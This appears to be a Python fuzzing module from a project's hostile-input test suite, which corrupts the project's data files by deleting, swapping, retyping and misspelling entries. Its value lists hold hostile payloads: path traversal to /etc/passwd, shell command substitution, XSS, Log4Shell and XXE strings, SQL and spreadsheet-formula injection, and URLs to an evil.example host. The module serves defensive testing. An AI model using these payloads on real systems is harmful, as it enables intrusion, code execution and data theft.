"""Mutations of what the data say: keys, entries and values deleted, doubled, swapped, retyped, misspelt."""

import copy
import random
from collections.abc import Callable
from typing import Any

from tests.hostile.breaking import RAW, Kind, NoPlace, Place, Project, Spoilt, is_text, parent, places, put, shown

Chosen = Callable[[Place, Any], bool]
WHERE_DATES = {"from", "to", "on", "adopted", "signed", "until", "accessed", "retrieved", "date", "day", "since"}
WHERE_NUMBERS = {"place", "minutes", "articles_expected", "obligations_expected", "share", "value"}
WHERE_IDS = {"id", "eid", "act", "instrument", "obligation", "element", "provision", "part", "by", "record", "target",
             "module", "term"}
WHERE_ADDRESSES = {"url", "address", "found_address"}

OF_ANOTHER_TYPE = ("[]", "{}", "[a, b]", "{a: b}", "null", "~", "true", "no", "0", "-1", "3.14", "2024-02-30",
                   "2024-09-05", "2024-09-05T10:00:00Z", "[[]]", "{kk: а}", ".inf", "0x1F", "1e400")
DATES = ("0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "-001-01-01", "2024-02-30", "2023-02-29",
         "2024-13-01", "2024-00-10", "٢٠٢٤-٠٩-٠٥", "2024-09-05T00:00", "1e9", "1725494400", "2024-9-5", "05.09.2024",
         "2024-09-05 ", "20240905", "2024-W36-4", "9999-99-99", "today")
NUMBERS = ("-1", "0", "1e309", "9" * 5000, "NaN", ".nan", "inf", "0x10", "1_000", "１２", "1.5", "+5", "1 000", "²", "")
IDS = ("../../../etc/passwd", "/etc/passwd", "..\\..\\windows\\system32", "a/../b", "%2e%2e%2f", '"a\\0b"', "x" * 300,
       "CON", "aux.yml", "NUL", "trailing.", "trailing ", "UPPER", "with space", '"new\\nline"', "кирил", "a\u200bb",
       "art_1\u202e", "art_١", "~root", "$HOME", "`id`", "$(id)", ".", "..", "-rf", "a//b", "a#b", "a?b", "file:///x")
ADDRESSES = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x",
             "file:///etc/passwd", "//evil.example/x", "https://", "https://a b", '"https://a.example/\\nx"',
             "https://user:pass@evil.example/", "https://evil.example/\"><script>alert(1)</script>",
             "https://evil.example/" + "x" * 5000, "https://xn--80ak6aa92e.com/", "http://127.0.0.1:1/",
             "https://evil.example/<>", "ftp://evil.example/x", "https:\\\\evil.example", "mailto:a@b")
INJECTIONS = (
    "<script>window.__pwned=1</script>", "<img src=x onerror=window.__pwned=1>",
    "</title></script><svg onload=alert(1)>",
    
    "[text](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "{{ config.__class__ }} {% include '/etc/passwd' %}",
    "=HYPERLINK(\"https://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3", "#set page(fill: red)",
    "#panic(\"in\") $ sys.version $", "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>", "&lt;b&gt; &amp;x; &#0;",
    "\"\"\" . <http://evil.example/s> <http://evil.example/p> \"o\" .",
    "\"}],\"@context\":\"https://evil.example\",\"x\":[{\"",
    "{=raw html} ::: note", "--8<-- \"/etc/passwd\"", "!!! danger \"x\"", "~T {=a ~b} =1 ->x", "<!-- --> <? ?> <% %>",
    
    "${jndi:ldap://evil.example/a}", "'; DROP TABLE acts; --", "\\input{/etc/passwd} \\write18{id}",
    "[sound:x.mp3]{{c1::x}}",
)
UNSEEN = ("\u202e", "\u2066", "\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u061c", "\U000e0041", "\u180e")


def _chosen(project: Project, rng: random.Random, wanted: Chosen) -> tuple[str, Any, Place, Any]:
    for _ in range(200):
        name = project.draw(rng)
        tree = project.tree(name)
        found = [(place, value) for place, value in places(tree) if wanted(place, value)]
        if found:
            place, value = rng.choice(found)
            return name, copy.deepcopy(tree), place, value
    raise NoPlace


def _leaf(place: Place, value: Any) -> bool:
    return isinstance(value, str)


def _delete(wanted: Chosen) -> Callable[[Project, random.Random], Spoilt]:
    def spoil(project: Project, rng: random.Random) -> Spoilt:
        name, tree, place, _ = _chosen(project, rng, wanted)
        del parent(tree, place)[place[-1]]
        project.write_tree(name, tree)
        return Spoilt(f"{name}: {shown(place)} deleted", (name,))
    return spoil


def _double_entry(project: Project, rng: random.Random) -> Spoilt:
    name, tree, place, value = _chosen(project, rng, lambda place, _: isinstance(place[-1], int))
    parent(tree, place).insert(place[-1], value)
    project.write_tree(name, tree)
    return Spoilt(f"{name}: {shown(place)} stands twice", (name,))


def _swap(project: Project, rng: random.Random) -> Spoilt:
    name, tree, place, value = _chosen(project, rng, _leaf)
    others = [(other, there) for other, there in places(tree) if isinstance(there, str) and there != value]
    if not others:
        raise NoPlace
    other, there = rng.choice(others)
    put(tree, place, there)
    put(tree, other, value)
    project.write_tree(name, tree)
    return Spoilt(f"{name}: {shown(place)} and {shown(other)} swapped", (name,))


def _value(wanted: Chosen, values: tuple[str, ...], *, raw: bool = True) -> Callable[[Project, random.Random], Spoilt]:
    """Put one of the values in place of what stands there: as written (`raw`), or as a text."""
    def spoil(project: Project, rng: random.Random) -> Spoilt:
        name, tree, place, _ = _chosen(project, rng, wanted)
        value = rng.choice(values)
        put(tree, place, RAW if raw else value)
        project.write_tree(name, tree, value)
        return Spoilt(f"{name}: {shown(place)} is now {value[:60]!r}", (name,))
    return spoil


def _added(wanted: Chosen, values: tuple[str, ...]) -> Callable[[Project, random.Random], Spoilt]:
    """Add one of the values to the text that stands there: before, after or within it."""
    def spoil(project: Project, rng: random.Random) -> Spoilt:
        name, tree, place, old = _chosen(project, rng, wanted)
        value = rng.choice(values)
        cut = rng.choice((0, len(old), rng.randrange(len(old) + 1)))
        glue = "" if len(value) == 1 else " "
        put(tree, place, f"{old[:cut]}{glue}{value}{glue}{old[cut:]}")
        project.write_tree(name, tree)
        return Spoilt(f"{name}: {shown(place)} holds {value[:60]!r}", (name,))
    return spoil


def _misspell_key(project: Project, rng: random.Random) -> Spoilt:
    name, tree, place, _ = _chosen(project, rng, lambda place, _: isinstance(place[-1], str))
    holder, key = parent(tree, place), str(place[-1])
    cut = rng.randrange(len(key))
    wrong = rng.choice((key[:cut] + key[cut + 1:], key[:cut] + "x" + key[cut:], key.upper(), f"{key} ", f"{key}\u200b"))
    put(tree, place[:-1], {(wrong if k == key else k): v for k, v in holder.items()}) if place[:-1] else None
    if not place[:-1]:
        tree = {(wrong if k == key else k): v for k, v in tree.items()}
    project.write_tree(name, tree)
    return Spoilt(f"{name}: the key {shown(place)} is now {wrong!r}", (name,))


def _misspell_value(project: Project, rng: random.Random) -> Spoilt:
    name, tree, place, value = _chosen(
        project, rng, lambda place, value: isinstance(value, str) and value != "" and not is_text(place, value))
    cut = rng.randrange(len(value))
    put(tree, place, value[:cut] + rng.choice("xz9-_/") + value[cut + rng.choice((0, 1)):])
    project.write_tree(name, tree)
    return Spoilt(f"{name}: {shown(place)} misspelt", (name,))


def _unknown_key(project: Project, rng: random.Random) -> Spoilt:
    name, tree, place, holder = _chosen(project, rng, lambda _, value: isinstance(value, dict))
    key = rng.choice(("note2", "__proto__", "constructor", "<<", "$ref", "include", "__class__", "заметка", "n" * 900))
    put(tree, place, {**holder, key: "x"})
    project.write_tree(name, tree)
    return Spoilt(f"{name}: {shown(place)} has a key {key[:30]!r}", (name,))


def _keyed(names: set[str]) -> Chosen:
    return lambda place, value: isinstance(value, str) and place[-1] in names


KINDS = (
    Kind("delete-key", 180, _delete(lambda place, _: isinstance(place[-1], str))),
    Kind("delete-entry", 90, _delete(lambda place, _: isinstance(place[-1], int))),
    Kind("duplicate-entry", 50, _double_entry),
    
    Kind("swap-values", 90, _swap),
    
    Kind("retype", 140, _value(lambda *_: True, OF_ANOTHER_TYPE)),
    
    Kind("empty-text", 40, _value(_leaf, ("", " ", "\u00a0", "\u200b", "\u2060\u200b", "...", "\n", "\ufeff"),
                                  raw=False)),
    Kind("misspelt-key", 50, _misspell_key),
    Kind("unknown-key", 30, _unknown_key),
    Kind("misspelt-value", 70, _misspell_value),
    Kind("path-trick-in-id", 90, _value(_keyed(WHERE_IDS), IDS)),
    Kind("date-out-of-range", 90, _value(_keyed(WHERE_DATES), DATES)),
    Kind("number-out-of-range", 40, _value(_keyed(WHERE_NUMBERS), NUMBERS)),
    Kind("address", 50, _value(_keyed(WHERE_ADDRESSES), ADDRESSES)),
    Kind("injection", 160, _added(is_text, INJECTIONS)),
    Kind("injection-elsewhere", 60, _added(_leaf, INJECTIONS)),
    Kind("unseen-character", 60, _added(_leaf, UNSEEN)),
)
